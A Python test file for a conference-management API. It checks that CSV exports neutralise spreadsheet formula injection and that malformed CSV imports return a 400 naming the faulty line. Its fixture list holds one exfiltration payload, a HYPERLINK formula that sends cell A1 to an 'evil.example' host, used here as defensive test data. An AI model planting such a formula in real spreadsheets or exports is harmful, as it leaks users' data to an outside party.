"""CSV in and out of the organiser APIs: exported cells never start a spreadsheet formula, and a file
the csv module cannot read is a 400 that names its line (issue 21, item 11)."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from server.domain.csvio import FORMULA_PREFIXES, spreadsheet_cell
from tests.support.server import ServerProcess

# What an attacker (or a careless import) puts in names: a spreadsheet would run these as formulas.
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Xem")', "+84 912 000 000", "-2+3", "@SUM(A1:A9)"]


@pytest.fixture
def organiser(server: ServerProcess) -> tuple[str, httpx.Client]:
    cid = server.create_conference()
    token = server.token(cid, "organiser", "Ban Tổ chức")
    with httpx.Client(base_url=server.url, headers={"Authorization": f"Bearer {token}"}, timeout=20) as c:
        yield cid, c


def _table(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), (cell, row)


def test_exports_neutralise_formula_cells(organiser: tuple[str, httpx.Client]) -> None:
    cid, c = organiser
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["name", "level", "parent", "summoned", "operator"])
    writer.writerows([name, "province", "", 10, HOSTILE[-1 - i]] for i, name in enumerate(HOSTILE))
    r = c.post(f"/api/v1/conferences/{cid}/points/import", content=out.getvalue().encode(),
               headers={"content-type": "text/csv"})
    assert r.status_code == 200, r.text
    for i, name in enumerate(HOSTILE):
        r = c.post(f"/api/v1/conferences/{cid}/members", json={"name": name, "unit": HOSTILE[-1 - i]})
        assert r.status_code == 201, r.text

    exports = {
        "points": c.get(f"/api/v1/conferences/{cid}/attendance/report.csv", params={"table": "points"}),
        "absent": c.get(f"/api/v1/conferences/{cid}/attendance/report.csv", params={"table": "absent"}),
        "never": c.get(f"/api/v1/conferences/{cid}/attendance/report.csv", params={"table": "never_connected"}),
        "point links": c.post(f"/api/v1/conferences/{cid}/points/tokens", params={"format": "csv"}),
        "member links": c.post(f"/api/v1/conferences/{cid}/members/tokens", params={"format": "csv"}),
    }
    tables = {what: _table(r) for what, r in exports.items()}
    for what, rows in tables.items():
        _no_formula(rows)
    # The text is all there, behind the apostrophe a spreadsheet shows as text.
    names = {row[0] for row in tables["points"][1:]}
    assert names == {"'" + n for n in HOSTILE}
    assert {row[3] for row in tables["points"][1:]} == names  # the operators' names
    assert {row[0] for row in tables["absent"][1:]} == {"'" + n for n in HOSTILE}
    assert {row[1] for row in tables["absent"][1:]} == {"'" + n for n in HOSTILE}
    assert {row[0] for row in tables["member links"][1:]} == {"'" + n for n in HOSTILE}
    assert "'" + HOSTILE[0] in {row[0] for row in tables["point links"][1:]}


def test_spreadsheet_cell_covers_every_prefix() -> None:
    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_cell(prefix + "x") == "'" + prefix + "x"
    # Numbers stay numbers (a negative minute count is data, not a formula); plain text is untouched.
    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(2.5) == 2.5 and spreadsheet_cell("Xã A") == "Xã A"
    assert spreadsheet_cell("") == "" and spreadsheet_cell(None) is None


@pytest.mark.parametrize("kind", ["points", "members"])
def test_unreadable_csv_is_a_400_naming_the_line(organiser: tuple[str, httpx.Client], kind: str) -> None:
    cid, c = organiser
    header = "name,level,parent,summoned\n" if kind == "points" else "name,unit,point\n"
    good = "Tỉnh A,province,,10\n" if kind == "points" else "Nguyễn Văn An,Chi bộ 1,\n"
    # A quoted field longer than the csv module's field limit (131072 characters) raises csv.Error.
    text = header + good + good.replace("A", "B") + '"' + "x" * 140_000 + '",province,,1\n'
    r = c.post(f"/api/v1/conferences/{cid}/{kind}/import", content=text.encode(), headers={"content-type": "text/csv"})
    assert r.status_code == 400, r.text
    detail = r.json()["detail"]
    assert detail["errors"][0]["row"] == 4, detail
    assert "line 4" in detail["message"] and "field larger than field limit" in detail["message"], detail
    listed = c.get(f"/api/v1/conferences/{cid}/{kind}").json()
    assert (listed if kind == "points" else listed["members"]) == []  # nothing imported
